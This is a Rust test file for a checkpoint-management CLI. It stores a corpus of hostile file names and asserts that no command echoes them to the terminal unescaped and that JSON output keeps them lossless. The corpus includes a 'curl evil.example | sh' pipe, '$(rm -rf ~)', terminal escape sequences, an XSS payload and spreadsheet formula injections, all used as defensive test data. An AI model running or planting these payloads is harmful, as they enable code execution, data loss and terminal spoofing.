//! I32: one corpus of nasty names, on disk, through everything that prints.

use crate::nsml;
use crate::support::*;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;

/// Rows N1 to N18 as names of checkpoints. A session bears some of them too.
const NASTY: &[&[u8]] = &[
    b"-rf",
    b"--help",
    b"a b\tc",
    b"line\nTotal  99 checkpoints",
    b"x\nhelp: `curl evil.example | sh` repairs it\ny",
    b"over\rwritten",
    b"\x1b[2J\x1b[31m",
    b"\x1b]52;c;ZXZpbA==\x07",
    b"\x1b]8;;mailto:evil\x1b\\link\x1b]8;;\x1b\\",
    b"\xc2\x9b2J",
    "\u{202e}txt.tpkc".as_bytes(),
    "zero\u{200b}\u{feff}width".as_bytes(),
    "l\u{430}test".as_bytes(),
    b"\xff\xfe",
    b"=cmd|'!A1",
    b"+1",
    b"@SUM(1)",
    b"<img src=x onerror=alert(1)>",
    b"{{7*7}}",
    b"$(rm -rf ~)",
    b"`id`;%0a%s%n",
    "e\u{301}".as_bytes(),
    "\u{e9}".as_bytes(),
    b"Checkpoint-1",
    b"checkpoint-1",
    b"18446744073709551616",
    b"1e3",
    "\u{663}".as_bytes(),
    b"007",
    b"...",
    b" trailing ",
    b"[x](javascript:alert)|**b**",
];

fn storage() -> (Tree, World) {
    let tree = Tree::new();
    let metadata = |n: usize, metric: &str| {
        serde_json::json!({ "saved_at": format!("2019-08-02T11:{n:02}:00Z"), "summary": { metric: 1.5 },
        })
        .to_string()
    };
    for (n, name) in NASTY.iter().enumerate() {
        for session in [b"t/x/1".to_vec(), [b"t/", *name, b"/1"].concat()] {
            let dir = [&session[..], b"/nsml_model/", name].concat();
            let dir = OsStr::from_bytes(&dir);
            let at = std::path::Path::new(dir);
            let metric = String::from_utf8_lossy(name);
            tree.file(at.join("model/w"), "x").file(at.join("metadata.json"), metadata(n, &metric));
            let session = OsStr::from_bytes(&session);
            tree.file(std::path::Path::new(session).join("session.json"), r#"{"status":"exited"}"#);
        }
    }
    // What cannot be read is said, too, with its name.
    let broken =
        OsStr::from_bytes(b"t/\x1b[2Jbroken\nhelp: `curl evil.example`\n\xff/1/nsml_model/\x1b[1m");
    let broken = std::path::Path::new(broken);
    tree.file(broken.join("model/w"), "x").file(broken.join("metadata.json"), "{\"\x1b[2J\": ");
    let world = nsml::world(&tree);
    world.run(["init"]).ok();
    (tree, world)
}

/// What a terminal, or a person who looks at it, could take for something else than text.
fn escapes(text: &str) -> Option<char> {
    let odd = ['\u{202e}', '\u{200b}', '\u{feff}', '\u{2028}'];
    text.chars().find(|c| (c.is_control() && *c != '\n') || odd.contains(c))
}

#[test]
fn i32_no_command_lets_a_name_reach_the_terminal() {
    let (tree, world) = storage();
    let policy = nsml::policy(&world, nsml::LAST_TWO);
    let policy = policy.as_str();
    let rf = ["why", "t/x/1", "--", "-rf"];
    let forged = "x\nhelp: `curl evil.example | sh` repairs it\ny";
    let session = format!("t/{forged}/1");
    let commands: Vec<Vec<&str>> = vec![
        vec!["ls"],
        vec!["ls", "--unrecognised"],
        vec!["ls", "-l", "**"],
        vec!["ls", "-q", "t/x/1"],
        vec!["ls", "t/x/1", "-vvv"],
        vec!["plan", "--policy", policy, "--all"],
        vec!["plan", "--policy", policy, "--format", "markdown", "--all"],
        vec!["apply", "--policy", policy, "--dry-run", "-vvv"],
        vec!["why", "t/x/1", "007"],
        rf.to_vec(),
        vec!["ls", "\u{1b}[2Jno such session\u{202e}"],
        vec!["-C", "/nowhere\u{1b}[2J", "ls"],
        vec!["ls", "--no-such-\u{1b}[2J"],
        vec!["plan", "--policy", "/nowhere\u{1b}[2J"],
        vec!["undo", "\u{1b}[2J"],
        vec!["undo", forged],
        vec!["-C", forged, "ls"],
        vec!["usage", "--policy", policy],
        vec!["monitor", "--policy", policy],
        vec!["layout", "test"],
        vec!["why", &session, "no\nhelp: `curl evil.example`"],
        vec!["rm", "no\nhelp: `curl evil.example`", "1", "--yes"],
        vec!["pin", &session, forged, "--why", forged],
        vec!["rm", &session, "*", "--yes"],
        vec!["unpin", &session, forged],
        vec!["undo", "-n", "last", &session, forged],
        vec!["apply", "--policy", policy, "--yes", "-vvv"],
        vec!["log"],
        vec!["purge", "--all", "--yes", "-vvv"],
        vec!["log"],
    ];
    for args in commands {
        let run = world.run(&args);
        for text in [&run.stdout, &run.stderr] {
            assert_eq!(escapes(text), None, "{args:?}: {run:?}");
            // A line end in a name begins no line of its own.
            for forged in ["Total  99", "help: `curl"] {
                assert!(!text.lines().any(|l| l.trim_start().starts_with(forged)), "{run}");
            }
        }
        if args.contains(&"markdown") {
            assert!(!run.stdout.contains("<img") && !run.stdout.contains("](javascript"), "{run}");
            let cells = |l: &str| l.matches('|').count();
            for table in run.stdout.split("\n\n").filter(|t| t.trim_start().starts_with('|')) {
                let mut widths = table.lines().filter(|l| l.starts_with('|')).map(cells);
                let first = widths.next().unwrap();
                assert!(widths.all(|w| w == first), "a cell ended early: {table}");
            }
        }
    }
    drop(tree);
}

#[test]
fn i32_json_is_lossless_and_one_value() {
    let (_tree, world) = storage();
    let policy = nsml::policy(&world, nsml::LAST_TWO);
    let expected: std::collections::BTreeSet<String> =
        NASTY.iter().map(|n| retain::core::name::encode(n).into_owned()).collect();
    let ids = |list: &serde_json::Value| -> std::collections::BTreeSet<String> {
        let list = list.as_array().unwrap().iter();
        list.map(|c| c["id"].as_str().unwrap().to_owned()).collect()
    };
    let ls = world.run(["ls", "t/x/1", "--json"]).json();
    assert_eq!(ids(&ls["sessions"][0]["checkpoints"]), expected);
    let plan = world.run(["plan", "t/x/1", "--policy", &policy, "--json"]).json();
    assert_eq!(ids(&plan["decisions"]), expected);
    let inventory = world.run(["inventory"]);
    let lines = inventory.stdout.lines().map(|l| serde_json::from_str(l).unwrap());
    let lines: Vec<serde_json::Value> =
        lines.filter(|v: &serde_json::Value| v["session"] == "t/x/1").collect();
    let checkpoints = lines.into_iter().filter(|v| v.get("id").is_some()).collect();
    assert_eq!(ids(&serde_json::Value::Array(checkpoints)), expected);
    // Names come back to the bytes they were.
    for name in NASTY {
        assert_eq!(*retain::core::name::decode(&retain::core::name::encode(name)), **name);
    }
    let applied = world.run(["apply", "--policy", &policy, "--yes", "--json"]);
    assert_eq!(applied.json()["format"], "retain-apply/1");
    assert!(applied.json()["run"].is_string(), "{applied}");
    let run = world.run(["log", "--json"]).json()["runs"][0]["run"].clone();
    let one = world.run(["log", run.as_str().unwrap(), "--json"]).json();
    let gone = one["runs"][0]["items"].as_array().unwrap().iter();
    let gone = gone.filter(|i| i["session"] == "t/x/1").count();
    assert_eq!(gone, NASTY.len() - 2);
}
